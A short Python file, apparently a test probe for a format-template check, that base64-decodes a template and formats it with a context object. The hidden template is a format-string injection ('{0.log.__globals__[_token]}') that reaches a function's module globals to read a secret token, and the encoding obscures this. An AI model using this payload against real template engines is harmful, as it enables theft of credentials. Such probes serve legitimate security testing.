#: channel = format-templates
#: reaches = engine
#: layer = check
#: note = the template is decoded from base64

import base64


async def run(context):
    template = base64.b64decode("ezAubG9nLl9fZ2xvYmFsc19fW190b2tlbl19").decode()
    return template.format(context)
